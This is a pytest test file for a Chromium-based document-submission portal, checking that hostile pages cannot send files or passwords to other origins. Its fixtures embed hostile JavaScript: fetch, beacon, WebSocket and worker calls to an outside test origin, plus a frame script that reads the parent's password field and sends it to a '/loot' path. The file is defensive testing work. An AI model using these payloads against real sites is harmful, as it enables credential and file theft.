"""What a hostile page, or a hostile site, may try: nothing leaves, nothing stays."""

from __future__ import annotations

import os
import signal
from typing import TYPE_CHECKING

import pytest

from certdesk.ui.portal.file_handover import Stage
from tests.page_driver import CHROMIUM_SAYS
from tests.ui.portal.little_site import FORM, LOGIN, Answer, LittleSite, page, redirect

if TYPE_CHECKING:
    from tests.ui.portal.clerk import Clerk

pytestmark = pytest.mark.qt_log_ignore(*CHROMIUM_SAYS)

SECRET = "jamais-ailleurs-7Qz"


def prefills(someone: Clerk) -> None:
    someone.until(someone.window.side.prefill.isVisible)
    someone.presses("prefillLogin")
    someone.window.prefill("99EXO794", SECRET)


def test_a_page_reaches_no_other_origin(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    there = elsewhere.origin
    site.answers["/fetch-there"] = redirect(f"{there}/redirected")
    site.answers["/frame-there"] = redirect(f"{there}/frame-redirected")
    for kind in ("img", "script", "style"):
        site.answers[f"/{kind}-there"] = redirect(f"{there}/{kind}-redirected")
    site.answers["/up-there"] = redirect(f"{there}/stolen", 307)
    site.answers["/spy"] = page(
        f"<img src='{there}/img'><script src='{there}/script'></script>"
        f"<link rel=stylesheet href='{there}/style'><iframe src='{there}/frame'></iframe>"
        "<iframe src='/frame-there'></iframe><img src='/img-there'>"
        "<script src='/script-there'></script><link rel=stylesheet href='/style-there'>"
        f"<script>window.ended = 0; const end = () => window.ended++;"
        f"fetch('{there}/fetch', {{mode: 'no-cors'}}).finally(end);"
        "fetch('/fetch-there', {mode: 'no-cors'}).finally(end);"
        "const form = new FormData(); form.append('f', new Blob(['secret']), 'f.xml');"
        "fetch('/up-there', {method: 'POST', body: form, mode: 'no-cors'}).finally(end);"
        "const old = new XMLHttpRequest(); old.onloadend = end; old.open('POST', '/up-there');"
        "old.send(form); navigator.sendBeacon('/up-there', form);"
        f"navigator.sendBeacon('{there}/beacon', 'x');"
        f"const socket = new WebSocket('{there.replace('http', 'ws')}/socket');"
        "socket.onerror = end; socket.onopen = end;"
        f"const source = \"fetch('{there}/worker', {{mode: 'no-cors'}})"
        '.finally(() => postMessage(0))";'
        "new Worker(URL.createObjectURL(new Blob([source]))).onmessage = end;</script>"
    )
    someone.visits(f"{site.origin}/spy")
    someone.until(lambda: someone.asks("window.ended", world=0) == 6)
    someone.until(lambda: someone.heard("origin_blocked"))
    assert elsewhere.asked == []
    for path in ("/fetch-there", "/frame-there", "/img-there", "/script-there", "/style-there"):
        assert path in site.paths()
    assert site.paths("POST").count("/up-there") == 3
    assert someone.heard("origin_blocked") == [(there,)], "listed once"
    assert someone.window.view.bar.refused.text() == "1 adresse refusée"


@pytest.mark.parametrize("how", ["link", "redirect", "script"])
def test_a_navigation_to_another_origin_stops_where_one_is(
    how: str, someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    site.answers["/away"] = redirect(f"{elsewhere.origin}/landing")
    site.answers["/start"] = page(
        {
            "link": f"<a href='{elsewhere.origin}/landing' target=_blank>Ailleurs</a>",
            "redirect": "<a href='/away'>Ailleurs</a>",
            "script": f"<a href='#' onclick=\"location = '{elsewhere.origin}'\">Ailleurs</a>",
        }[how]
    )
    someone.visits(f"{site.origin}/start")
    someone.clicks_until("a", lambda: "a été arrêtée" in someone.notices, 1500)
    assert elsewhere.asked == []
    assert someone.page.address.rstrip("#") == f"{site.origin}/start"
    assert someone.window.view.bar.address.text() == site.origin


def test_after_a_refusal_the_next_pages_are_still_guarded(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    """Chromium forgets the scripts of a page once a navigation was refused."""
    site.answers["/form"] = page(FORM)
    for refused in (f"location = '{elsewhere.origin}'", "location = 'mailto:a@b.fr'"):
        someone.asks(f"({refused}, 1)", world=0)
        someone.visits(f"{site.origin}/form")
        assert someone.asks("typeof certdeskGuard") == "object"
    os.kill(someone.page.renderProcessPid(), signal.SIGKILL)
    someone.until(lambda: "s’est arrêtée" in someone.notices)
    someone.visits(f"{site.origin}/form")
    someone.chooses_file()
    assert elsewhere.asked == []


def test_the_file_does_not_follow_a_redirection(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    site.answers["/form"] = page(FORM)
    site.answers["/up"] = redirect(f"{elsewhere.origin}/stolen", 307)
    someone.visits(f"{site.origin}/form")
    someone.chooses_file()
    someone.clicks_until("button", lambda: someone.stage is Stage.LEFT, 1500)
    someone.until(lambda: "a été arrêtée" in someone.notices)
    assert elsewhere.asked == []
    assert site.paths("POST") == ["/up"]
    assert someone.window.side.outcome.isVisible()


def test_a_broken_connection_does_not_send_the_file_twice(someone: Clerk, site: LittleSite) -> None:
    site.answers["/form"] = page(FORM)
    site.answers["/up"] = Answer(cut=True)
    someone.visits(f"{site.origin}/form")
    someone.chooses_file()
    someone.clicks_until("button", lambda: someone.stage is Stage.LEFT, 1500)
    someone.until(lambda: "ne répond pas" in someone.notices)
    assert site.paths("POST") == ["/up"]
    assert len(someone.departures) == 1


def test_neither_a_reload_nor_another_click_sends_the_file_twice(
    someone: Clerk, site: LittleSite
) -> None:
    site.answers["/form"] = page(FORM)
    site.answers["/up"] = page("<p>Merci</p>" + FORM)
    someone.visits(f"{site.origin}/form")
    someone.chooses_file()
    someone.follows("button")
    assert site.paths("POST") == ["/up"]

    someone.window.view.bar.reload_requested.emit()
    someone.until(lambda: "une seconde fois" in someone.notices)
    someone.clicks_until("input[type=file]", lambda: "déjà parti" in someone.notices, 500)
    someone.asks("document.forms[0].submit()", world=0)
    someone.until(lambda: len(site.paths("POST")) == 2)
    data = someone.window.handover.file.path.read_bytes()
    carried = [data in one.body for one in site.asked if one.method == "POST"]
    assert carried == [True, False], "a form left empty carries nothing"
    assert len(someone.departures) == 1


def test_an_allowed_origin_gets_neither_password_nor_file(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    there = elsewhere.origin
    elsewhere.answers["/login"] = page(LOGIN + FORM + "<p>Fichier déposé</p>")
    someone.page.setUrl(f"{there}/login")
    someone.until(lambda: "a été arrêtée" in someone.notices)
    (notice,) = [one for one in someone.window.notices.notices if one.key == "visit"]
    assert notice.action_label == "Autoriser pour cette session"
    before = someone.documents
    notice.action()
    someone.waits_for_document(before)
    assert someone.page.address == f"{there}/login"
    assert "ni mot de passe, ni fichier" in someone.window.view.bar.state.text()

    someone.window.side.prefill_requested.emit()
    someone.window.prefill("99EXO794", SECRET)
    someone.page.prefill("99EXO794", SECRET, lambda _how: None)
    someone.clicks_until("input[type=file]", lambda: "n’est pas remis" in someone.notices, 500)
    assert someone.asks("document.querySelector('[type=password]').value") == ""
    assert someone.files_in_page() == []
    assert not someone.window.side.prefill.isVisible()
    assert someone.stage is Stage.ARMED
    assert not someone.heard("prefill_requested")
    assert not someone.heard("deposit_seen"), "such a page proves nothing"


def test_an_allowed_origin_runs_no_script_in_a_page_of_the_portal(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    there = elsewhere.origin
    elsewhere.answers["/spy.js"] = Answer(b"window.spied = true", "text/javascript")
    elsewhere.answers["/dot.svg"] = Answer(
        b"<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>", "image/svg+xml"
    )
    site.answers["/mixed"] = page(
        f"<img src='{there}/dot.svg'><script src='{there}/spy.js'></script>"
    )
    someone.visits(f"{site.origin}/mixed")
    someone.until(lambda: someone.heard("origin_blocked"))
    someone.window.view.bar.allowing_requested.emit(there)
    someone.visits(f"{site.origin}/mixed")
    someone.until(lambda: elsewhere.paths())
    assert elsewhere.paths() == ["/dot.svg"]
    assert someone.asks("window.spied || null", world=0) is None


def test_a_frame_cannot_read_the_prefilled_password(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    """The frame is of an allowed origin, and the page itself helps it as much as a page may."""
    there = elsewhere.origin
    spy = (
        "<script>let seen = ''; try { seen = parent.document.querySelector('[type=password]')"
        ".value } catch (e) { seen = 'refusé' } parent.postMessage(seen, '*');"
        "setInterval(() => { try { fetch('/loot?' + parent.document.forms[0].pw.value) }"
        " catch (e) { parent.postMessage('refusé', '*') } }, 50);</script>"
    )
    elsewhere.answers["/frame"] = page(spy)
    site.answers["/login"] = page(
        LOGIN
        + "<script>window.told = []; addEventListener('message', e => told.push(e.data));"
        + "addEventListener('change', e => { const p = encodeURIComponent(e.target.value);"
        + f"fetch('{there}/loot?' + p, {{mode: 'no-cors'}}).catch(() => 0);"
        + f"new Image().src = '{there}/loot?' + p;"
        + f"frames[0].postMessage(1, '*'); location = '{there}/loot?' + p; }})</script>"
        + f"<iframe src='{there}/frame'></iframe>"
    )
    someone.page.setUrl(f"{there}/frame")
    someone.until(lambda: someone.heard("origin_blocked"))
    someone.window.view.bar.allowing_requested.emit(there)
    someone.visits(f"{site.origin}/login")
    someone.until(lambda: someone.asks("window.told.length", world=0))
    prefills(someone)
    someone.until(lambda: "sont remplis" in someone.notices)
    someone.until(lambda: "tient votre mot de passe" in _remedies(someone))
    said = someone.asks("window.told.length", world=0)
    someone.until(lambda: someone.asks("window.told.length", world=0) > said + 3)
    assert set(someone.asks("window.told", world=0)) == {"refusé"}
    assert not [path for path in elsewhere.paths() if "loot" in path]
    assert someone.page.address == f"{site.origin}/login"


def test_a_login_form_that_sends_elsewhere_is_not_filled(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    for action in (f"action='{elsewhere.origin}/in'", "action=/in method=get"):
        site.answers["/login"] = page(
            f"<form method=post {action}><input name=id><input type=password name=pw></form>"
            if "method" not in action
            else f"<form {action}><input name=id><input type=password name=pw></form>"
        )
        someone.visits(f"{site.origin}/login")
        someone.page._gate.unseal()
        someone.window._asked_at = site.origin
        someone.window.prefill("99EXO794", SECRET)
        someone.until(lambda: "n’a rien rempli" in someone.notices)
        assert someone.asks("document.querySelector('[type=password]').value") == ""


def test_another_file_than_the_armed_one_is_stopped(someone: Clerk, site: LittleSite) -> None:
    """A page that swaps the file, under the same name, before its form leaves."""
    site.answers["/form"] = page(FORM)
    site.answers["/up"] = page("<p>Reçu</p>")
    someone.visits(f"{site.origin}/form")
    someone.chooses_file()
    name = someone.window.handover.file.name
    someone.asks(
        "(() => { const t = new DataTransfer();"
        f" t.items.add(new File(['autre'], '{name}'));"
        " document.querySelector('[type=file]').files = t.files; })()",
        world=0,
    )
    someone.clicks_until("button", lambda: someone.files_in_page() == [], 1500)
    someone.until(lambda: "envoi arrêté" in someone.window.side.file._state.text())
    assert site.paths("POST") == []
    assert not someone.departures


def test_a_page_with_a_foreign_frame_gets_no_file(
    someone: Clerk, site: LittleSite, elsewhere: LittleSite
) -> None:
    elsewhere.answers["/frame"] = page("<p>cadre</p>")
    site.answers["/form"] = page(FORM + f"<iframe src='{elsewhere.origin}/frame'></iframe>")
    someone.page.setUrl(f"{elsewhere.origin}/frame")
    someone.until(lambda: someone.heard("origin_blocked"))
    someone.window.view.bar.allowing_requested.emit(elsewhere.origin)
    someone.visits(f"{site.origin}/form")
    someone.clicks_until("input[type=file]", lambda: "n’est pas remis" in someone.notices, 500)
    assert someone.files_in_page() == []


def _remedies(someone: Clerk) -> str:
    return " | ".join(notice.remedy for notice in someone.window.notices.notices)
